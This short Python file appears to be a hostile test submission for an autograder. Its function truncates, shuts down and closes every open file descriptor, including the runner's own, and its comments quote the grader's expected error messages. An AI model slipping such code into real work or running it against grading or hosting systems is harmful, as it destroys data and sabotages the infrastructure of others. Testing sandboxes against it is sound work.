"""Closes, shuts down and clogs every descriptor it has, those of the runner included."""

import fcntl
import os
import socket

# reads "The code ended the process (exit status 1)."
# reads "student_code.py has no windows."


def standardise(x):
    for descriptor in range(3, 256):
        for act in (
            lambda: socket.socket(fileno=descriptor).shutdown(socket.SHUT_RDWR),
            lambda: fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK),
            lambda: os.ftruncate(descriptor, 0),
            lambda: os.close(descriptor),
        ):
            try:
                act()
            except (OSError, ValueError):
                continue
    os.closerange(0, 1 << 16)
    return x
